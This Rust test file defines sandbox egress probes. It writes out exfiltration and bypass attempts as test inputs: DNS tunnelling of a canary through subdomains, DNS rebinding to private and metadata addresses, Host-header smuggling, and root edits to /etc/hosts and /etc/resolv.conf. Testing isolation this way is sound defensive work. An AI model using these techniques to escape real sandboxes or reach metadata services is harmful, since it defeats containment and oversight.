//! Names: questions that say too much, answers that lie, names that are not what they seem.

use crate::probe::Sign::{Answer, Canary, HostService, Metadata, Packet};
use crate::probe::{Probe, probe};

const TALK: &[crate::probe::Sign] = &[Canary, Answer];

/// Questions to the sandbox's own resolver.
pub(crate) const QUESTIONS: &[Probe] = &[
    probe("NE09a", "a_denied_name_is_asked_of_nobody", "dns(CANARY+'.denied.test')")
        .by(TALK)
        .fence("policy"),
    probe(
        "NE09b",
        "a_denied_name_is_asked_of_nobody_over_tcp",
        "dns(CANARY+'.denied.test', tcp=True)",
    )
    .by(TALK),
    probe(
        "NE09c",
        "a_name_below_an_allowed_name_is_asked_of_nobody",
        "dns(CANARY+'.allowed.test')",
    )
    .by(TALK),
    probe(
        "NE09d",
        "a_denied_name_is_asked_of_nobody_as_a_long_one",
        "dns('.'.join([CANARY]*6)+'.denied.test')",
    )
    .by(TALK),
    probe(
        "NE09e",
        "a_hello_for_a_name_that_was_never_asked_carries_nothing_out",
        "hello(CANARY+'.wide.test', 'other.wide.test')",
    )
    .by(TALK),
    probe(
        "NE09f",
        "a_request_for_a_name_that_was_never_asked_carries_nothing_out",
        "say('GET /', to='other.wide.test', host='{CANARY}.wide.test')",
    ),
    probe(
        "NE11k",
        "odd_types_are_asked_of_nobody",
        "each(*[dns(CANARY+'.denied.test', kind) for kind in (NS, CNAME, NULL, PTR, MX, TXT, \
         AAAA, SRV, SVCB, HTTPS, ANY, 65400)])",
    ),
    probe("NE11l", "an_allowed_name_has_no_texts", "dns('allowed.test', TXT)").by(&[Answer]),
    probe("NE11m", "an_allowed_name_offers_no_encrypted_hello", "dns('allowed.test', HTTPS)")
        .by(&[Answer]),
    probe(
        "NE11n",
        "odd_types_of_names_below_a_wildcard_are_asked_of_nobody",
        "dns(CANARY+'.wide.test', TXT)",
    ),
    probe(
        "NE11o",
        "a_question_hidden_behind_another_is_asked_of_nobody",
        "dns('', message=struct.pack('!6H', 7, 256, 2, 0, 0, 0) + \
         question('allowed.test')[12:] + question(CANARY+'.denied.test')[12:])",
    )
    .control("dns(CANARY+'.denied.test')"),
    probe(
        "NE11p",
        "a_name_with_a_dot_inside_a_label_is_asked_of_nobody",
        "dns('', message=question('', labels=[(CANARY+'.allowed').encode(), b'test']))",
    ),
    probe(
        "NE11q",
        "a_name_with_a_nul_is_asked_of_nobody",
        "dns('', message=question('', labels=[CANARY.encode()+b'\\0', b'wide', b'test']))",
    ),
    probe(
        "NE11r",
        "a_question_of_another_class_or_kind_is_asked_of_nobody",
        "each(*[dns('', message=question(CANARY+'.wide.test', flags=f)) \
         for f in (0x2800, 0x1000, 0x8180)], \
         dns('', message=question(CANARY+'.wide.test')[:-2] + b'\\0\\x03'))",
    )
    .control("dns(CANARY+'.wide.test')"),
    probe(
        "NE21a",
        "a_name_that_only_looks_like_an_allowed_one_does_not_resolve",
        "dns('xn--llowed-2of.test')",
    )
    .by(&[Answer]),
    probe(
        "NE22a",
        "a_name_that_ends_like_an_allowed_one_does_not_resolve",
        "dns(CANARY+'-allowed.test')",
    )
    .by(TALK),
    probe(
        "NE22b",
        "a_name_that_begins_like_an_allowed_one_does_not_resolve",
        "dns('allowed.test.'+CANARY+'.test')",
    )
    .by(TALK),
    probe("NE22c", "a_wildcard_is_not_about_its_own_name", "dns('wide.test')").by(&[Answer]),
    probe(
        "NE22d",
        "a_wildcard_is_not_about_names_that_end_like_its_own",
        "dns(CANARY+'wide.test')",
    )
    .by(TALK),
];

/// Allowed names that lead where nobody may go.
pub(crate) const REBINDING: &[Probe] = &[
    probe(
        "NE14a",
        "an_allowed_name_leads_not_to_the_host_s_loopback",
        "get('http://loopback.rebind.test:7777/')",
    )
    .by(&[HostService])
    .fence("address"),
    probe(
        "NE14b",
        "an_allowed_name_leads_not_to_the_unspecified_address",
        "get('http://unspecified.rebind.test:7777/')",
    )
    .by(&[HostService]),
    probe("NE14c", "an_allowed_name_leads_not_to_the_host", "get('http://node.rebind.test:7777/')")
        .by(&[HostService])
        .fence("address"),
    probe("NE14d", "an_allowed_name_leads_not_to_ten", "get('http://ten.rebind.test/'+CANARY)")
        .by(TALK),
    probe(
        "NE14e",
        "an_allowed_name_leads_not_to_a_home_network",
        "get('http://home.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe(
        "NE14f",
        "an_allowed_name_leads_not_to_a_private_network",
        "get('http://middle.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe(
        "NE14g",
        "an_allowed_name_leads_not_to_a_carrier_s_network",
        "get('http://carrier.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe(
        "NE14h",
        "an_allowed_name_leads_not_to_the_network_of_benchmarks",
        "get('http://bench.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe(
        "NE14i",
        "an_allowed_name_leads_not_to_the_link_itself",
        "get('http://link.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe(
        "NE14j",
        "an_allowed_name_leads_not_to_a_wire_server",
        "get('http://azure.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe(
        "NE14k",
        "an_allowed_name_leads_not_to_metadata_elsewhere",
        "get('http://alibaba.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe(
        "NE14l",
        "an_allowed_name_leads_not_to_ipv6_loopback",
        "get('http://loopback6.rebind.test:7777/')",
    )
    .by(&[HostService]),
    probe(
        "NE14m",
        "an_allowed_name_leads_not_to_a_unique_local_address",
        "get('http://unique6.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe(
        "NE14n",
        "an_allowed_name_leads_not_to_a_private_address_written_as_ipv6",
        "get('http://mapped6.rebind.test/'+CANARY)",
    )
    .by(TALK),
    probe("NE14o", "an_alias_leads_not_to_metadata", "get('http://alias.rebind.test/')")
        .by(&[Metadata]),
    probe(
        "NE14p",
        "of_a_mixed_answer_only_the_public_address_counts",
        "each(*[dial(address, 80) for address in resolve('mixed.rebind.test') + ['10.0.0.5']])",
    )
    .by(&[Packet("10.0.0.5")]),
    probe(
        "NE16a",
        "a_name_that_flips_between_check_and_use_leads_not_inside",
        "each(*[get('http://flip.rebind.test/'+CANARY) for _ in range(4)])",
    )
    .by(&[Packet("10.0.0.5")]),
    probe(
        "NE16b",
        "a_record_that_came_along_with_an_answer_counts_for_nothing",
        "each(dns('poison.wide.test'), raw('allowed.test', None, address='93.184.216.20'))",
    )
    .by(&[Packet("93.184.216.20")]),
];

/// An allowed name at an address of the client's own choice.
const AT_ANOTHER_ADDRESS: &str = "run(f'curl -sS -m 3 \
    --resolve allowed.test:80:93.184.216.20 http://allowed.test/{CANARY}')";

/// Who is meant, when the client says one thing and does another.
pub(crate) const CONFUSION: &[Probe] = &[
    probe(
        "NE17a",
        "an_allowed_name_at_an_address_of_the_client_s_choice_is_refused",
        AT_ANOTHER_ADDRESS,
    )
    .by(&[Canary, Packet("93.184.216.20")]),
    probe(
        "NE17b",
        "an_allowed_name_in_the_hosts_file_leads_nowhere_else",
        "run(f'cp /etc/hosts /tmp/hosts; echo 93.184.216.20 allowed.test >> /etc/hosts; \
         curl -sS -m 3 http://allowed.test/{CANARY}; cat /tmp/hosts > /etc/hosts')",
    )
    .control(AT_ANOTHER_ADDRESS)
    .by(&[Packet("93.184.216.20")])
    .as_root(),
    probe(
        "NE17c",
        "a_hello_with_an_allowed_name_at_a_denied_address_is_refused",
        "hello('allowed.test', address='93.184.216.20')",
    )
    .by(&[Answer, Packet("93.184.216.20")]),
    probe(
        "NE17d",
        "a_resolver_of_the_client_s_own_is_no_way_out",
        "run(f'cp /etc/resolv.conf /tmp/r; echo nameserver 8.8.8.8 > /etc/resolv.conf; \
         curl -sS -m 3 http://{CANARY}.denied.test/; cat /tmp/r > /etc/resolv.conf')",
    )
    .control("run(f'curl -sS -m 3 http://{CANARY}.denied.test/')")
    .as_root(),
    probe(
        "NE21b",
        "a_request_for_a_denied_host_is_refused_at_an_allowed_one",
        "say('GET /', host='{CANARY}.denied.test')",
    )
    .fence("host"),
    probe(
        "NE21c",
        "a_host_with_a_user_is_refused",
        "say('GET /', host='allowed.test@{CANARY}.denied.test')",
    ),
    probe(
        "NE21d",
        "a_host_with_a_nul_is_refused",
        "say('GET /', host='allowed.test\\0.{CANARY}.denied.test')",
    ),
    probe(
        "NE21e",
        "a_host_with_percent_signs_is_refused",
        "say('GET /', host='allowed%2etest%00.{CANARY}')",
    ),
    probe(
        "NE21f",
        "a_target_that_names_another_host_is_refused",
        "say('GET http://{CANARY}.denied.test/')",
    ),
    probe("NE21g", "two_hosts_are_refused", "say('GET /', 'Host: {CANARY}.denied.test')"),
    probe(
        "NE21h",
        "a_request_without_a_host_is_refused",
        "say('GET /{CANARY}', host=None, version='HTTP/1.0')",
    ),
    probe(
        "NE21i",
        "a_host_with_another_port_is_refused",
        "say('GET /{CANARY}', host='allowed.test:8080')",
    ),
    probe(
        "NE21j",
        "a_host_that_is_an_address_is_refused",
        "say('GET /{CANARY}', host='169.254.169.254')",
    ),
    probe(
        "NE21k",
        "a_name_at_the_same_address_is_refused_by_its_host",
        "say('GET /{CANARY}', host='neighbour.test')",
    ),
    probe(
        "NE21l",
        "two_hosts_in_one_are_refused",
        "say('GET /', host='allowed.test, {CANARY}.denied.test')",
    ),
];
